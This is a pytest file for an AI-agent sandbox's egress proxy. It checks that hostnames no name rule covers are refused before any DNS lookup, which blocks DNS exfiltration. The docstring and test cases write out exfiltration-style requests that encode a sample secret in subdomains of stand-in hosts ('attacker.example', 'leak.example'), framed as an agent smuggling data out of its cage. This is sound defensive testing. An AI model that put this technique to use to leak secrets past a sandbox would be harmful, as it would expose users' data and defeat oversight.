"""DNS exfiltration through the egress proxy: a name the proxy looks up is a message
to whoever serves that name's zone (``<secret>.attacker.example``), whether or not a
connection follows. On main any CIDR rule made the proxy resolve every name asked
for on that port before refusing it. Now a name is looked up only if a name rule
covers it on that port (``*.suffix`` covers names *under* suffix only).

Two ways to see that no lookup happens: a counting resolver at the proxy's
``Resolver`` seam (the proxy's own code, driven over a socketpair), and from inside a
real cage through the real proxy, the core's log, where every lookup is logged.
"""

from __future__ import annotations

import ipaddress
import secrets
import socket
import threading
from collections.abc import Iterator

import pytest

from hive_fixture import HiveProcess, running_hive, wait_until
from hyperhive.core.egress import Decision, EgressProxy, Refusal, Resolver, check
from hyperhive.wire.egress import IPAddress, parse_rules

from .egress_kit import ask_all, connect_head, get_head, reason

pytestmark = pytest.mark.attack("egress.dns-exfiltration", ref="anthropics/sandbox-runtime#88 (DNS exfiltration)")

RULES = ["203.0.113.0/24:80", "10.0.0.0/8:443", "0.0.0.0/0:8443", "[::/0]:8443", "*.ok.dns.test:80",
         "exact.dns.test:80"]
NOT_LOOKED_UP = "is not in this agent's egress allowlist (no name rule covers it; not looked up)"
SECRET = "mzxw6ytboi-c2vjcmv0"  # what an agent would smuggle out in a label


class CountingResolver(Resolver):
    """The proxy's resolver, counting what it is asked (and never asking DNS)."""

    def __init__(self) -> None:
        super().__init__({"exact.dns.test": "198.51.100.9", "a.ok.dns.test": "198.51.100.10"})
        self.asked: list[tuple[str, int]] = []

    def resolve(self, host: str, port: int) -> list[IPAddress]:
        self.asked.append((host, port))
        if host not in self.hosts:
            raise Refusal(502, f"cannot resolve {host}: not in the test's table")
        return super().resolve(host, port)


# (case id, rules, host, port): no name rule covers host on port.
UNCOVERED = [
    ("any-cidr-rule-port", RULES, f"{SECRET}.leak.example", 80),
    ("private-cidr-rule-port", RULES, f"{SECRET}.leak.example", 443),
    ("catch-all-cidr-port", RULES, f"{SECRET}.leak.example", 8443),
    ("wildcard-base-itself", RULES, "ok.dns.test", 80),
    ("wildcard-lookalike", RULES, f"{SECRET}ok.dns.test", 80),
    ("under-an-exact-rule", RULES, f"{SECRET}.exact.dns.test", 80),
    ("exact-name-other-port", RULES, "exact.dns.test", 81),
    ("wildcard-name-other-port", RULES, f"{SECRET}.ok.dns.test", 443),
    ("rule-name-as-prefix", RULES, "exact.dns.test.leak.example", 80),
    ("wildcard-as-prefix", RULES, f"{SECRET}.ok.dns.test.leak.example", 80),
    ("trailing-dot-lookalike", RULES, f"{SECRET}.leak.example.", 80),
    ("uppercase-lookalike", RULES, f"{SECRET.upper()}.LEAK.EXAMPLE", 8443),
    ("no-rules-at-all", [], f"{SECRET}.leak.example", 80),
]


@pytest.mark.parametrize("case, rules, host, port", UNCOVERED, ids=[c[0] for c in UNCOVERED])
def test_a_name_no_rule_covers_is_refused_before_any_lookup(case: str, rules: list[str], host: str,
                                                            port: int) -> None:
    resolver = CountingResolver()
    with pytest.raises(Refusal) as e:
        check(parse_rules(rules), host, port, resolver)
    shown = host.lower().removesuffix(".")
    assert (e.value.status, e.value.reason) == (403, f"{shown}:{port} {NOT_LOOKED_UP}")
    assert resolver.asked == []


@pytest.mark.parametrize("host, address", [("exact.dns.test", "198.51.100.9"), ("a.ok.dns.test", "198.51.100.10")])
def test_a_covered_name_is_looked_up_once_then_checked(host: str, address: str) -> None:
    """The control: the seam does see the lookups the proxy makes (and the answer is
    still checked: documentation space, not opened by the name rule)."""
    resolver = CountingResolver()
    with pytest.raises(Refusal) as e:
        check(parse_rules(RULES), host, 80, resolver)
    assert resolver.asked == [(host, 80)]
    assert e.value.reason == (f"{host}:80 resolves to {address}, documentation (TEST-NET-2): reachable only"
                              " through an IP or CIDR rule within 198.51.100.0/24")
    assert check(parse_rules([*RULES, "198.51.100.0/24:80"]), host, 80, resolver) == [ipaddress.ip_address(address)]


def serve_one(proxy: EgressProxy, request: bytes) -> bytes:
    """One connection to the real proxy code, over a socketpair (as egress.sock would give it)."""
    client, server = socket.socketpair()
    with client:
        client.sendall(request)
        t = threading.Thread(target=proxy._serve, args=("rtdns", server, False), daemon=True)
        t.start()
        client.settimeout(10)
        data = b""
        while chunk := client.recv(65536):
            data += chunk
        t.join(10)
    return data


@pytest.mark.parametrize("request_head", [
    f"CONNECT {SECRET}.leak.example:443 HTTP/1.1\r\n\r\n",
    f"GET http://{SECRET}.leak.example/ HTTP/1.1\r\nHost: {SECRET}.leak.example\r\n\r\n",
    "CONNECT ok.dns.test:80 HTTP/1.1\r\n\r\n",
    f"GET http://{SECRET}.leak.example:8443/ HTTP/1.1\r\n\r\n",
], ids=["connect-cidr-port", "get-cidr-port", "connect-wildcard-base", "get-catch-all-port"])
def test_the_proxy_itself_makes_no_lookup(request_head: str) -> None:
    resolver = CountingResolver()
    decisions: list[Decision] = []
    proxy = EgressProxy(lambda agent: parse_rules(RULES), decisions.append, resolver)
    reply = serve_one(proxy, request_head.encode())
    head, _, body = reply.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 403 Forbidden") and NOT_LOOKED_UP in body.decode(), reply
    assert resolver.asked == []


# -- from inside a real cage -------------------------------------------------------------

AGENT = "rtdns"
TOKEN = secrets.token_hex(4)


@pytest.fixture(scope="module")
def hive() -> Iterator[HiveProcess]:
    agents = {AGENT: {"runtime": "command", "command": ["true"], "egress": RULES}}
    hosts = {"exact.dns.test": "10.77.0.9"}  # private: refused after the lookup, never connected
    yield from running_hive(HiveProcess(agents, sections={"egress": {"hosts": hosts}}))


def lookups(hive: HiveProcess) -> list[str]:
    return [line.split("egress: looking up ", 1)[1] for line in hive.log_path.read_text(errors="replace").splitlines()
            if "egress: looking up " in line]


CAGE_CASES = [
    ("cidr-rule-port", f"{TOKEN}-a.leak.example", 80),
    ("private-cidr-port", f"{TOKEN}-b.leak.example", 443),
    ("catch-all-port", f"{TOKEN}-c.leak.example", 8443),
    ("wildcard-base", "ok.dns.test", 80),
    ("wildcard-lookalike", f"{TOKEN}ok.dns.test", 80),
    ("under-exact-rule", f"{TOKEN}.exact.dns.test", 80),
    ("exact-other-port", "exact.dns.test", 81),
    ("wildcard-other-port", f"{TOKEN}.ok.dns.test", 443),
]


@pytest.fixture(scope="module")
def cage_answers(hive: HiveProcess) -> dict[str, dict[str, str]]:
    requests = {}
    for case, host, port in CAGE_CASES:
        requests[f"{case} CONNECT"] = (connect_head(f"{host}:{port}"), "")
        requests[f"{case} GET"] = (get_head(f"http://{host}:{port}/", f"Host: {host}:{port}"), "")
    requests["control"] = (connect_head("exact.dns.test:80"), "")
    answers = ask_all(hive, AGENT, requests)
    # the control's lookup is in the log: the log is where lookups show
    wait_until(lambda: "exact.dns.test for port 80 (hive.toml hosts)" in lookups(hive), 10, "the control's lookup")
    return answers


def test_the_control_is_looked_up_and_refused_after(cage_answers: dict[str, dict[str, str]]) -> None:
    got = cage_answers["control"]
    assert got["status"] == 403 and reason(got["body"]) == (
        "exact.dns.test:80 resolves to 10.77.0.9, private (RFC 1918): reachable only through an IP or CIDR rule"
        " within 10.0.0.0/8")


@pytest.mark.parametrize("case, host, port", CAGE_CASES, ids=[c[0] for c in CAGE_CASES])
def test_from_a_cage_an_uncovered_name_is_never_looked_up(hive: HiveProcess, cage_answers: dict[str, dict[str, str]],
                                                          case: str, host: str, port: int) -> None:
    for method in ("CONNECT", "GET"):
        got = cage_answers[f"{case} {method}"]
        assert got["status"] == 403 and reason(got["body"]) == f"{host}:{port} {NOT_LOOKED_UP}", (method, got)
    assert not [line for line in lookups(hive) if line.startswith(f"{host} for port {port} ")]
    entries = hive.host_call("egress_log", name=AGENT, limit=200)["entries"]
    mine = [e for e in entries if e["host"] == host and e["port"] == port]
    assert len(mine) == 2 and all(not e["allowed"] and e["address"] is None and NOT_LOOKED_UP in e["reason"]
                                  for e in mine), mine
